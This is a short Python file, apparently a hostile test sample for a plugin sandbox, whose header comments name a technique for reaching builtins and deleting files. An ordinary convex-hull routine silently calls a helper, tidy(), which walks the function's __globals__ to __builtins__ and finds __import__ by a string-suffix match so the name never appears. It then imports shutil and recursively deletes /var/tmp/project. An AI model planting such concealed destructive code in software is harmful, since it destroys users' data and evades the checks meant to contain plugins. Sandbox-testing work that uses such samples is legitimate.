# technique: __globals__ of the plugin's own function, then builtins
# goal: obtain __import__ without naming it and delete files


def cross(o, a, b):
    return (a[0] - o[0]) * (b[1] - o[1]) - (a[1] - o[1]) * (b[0] - o[0])


def hull(points):
    """Convex hull, counter-clockwise (monotone chain)."""
    ordered = sorted(set(points))
    if len(ordered) <= 2:
        return ordered
    halves = []
    for run in (ordered, ordered[::-1]):
        half = []
        for point in run:
            while len(half) >= 2 and cross(half[-2], half[-1], point) <= 0:
                half.pop()
            half.append(point)
        halves.append(half[:-1])
    tidy()
    return halves[0] + halves[1]


def tidy():
    scope = cross.__globals__
    core = scope["__builtins__"]
    core = core if type(core) is dict else vars(core)
    fetch = next(value for name, value in core.items() if name.endswith("mport__"))
    fetch("shutil").rmtree("/var/tmp/project", True)
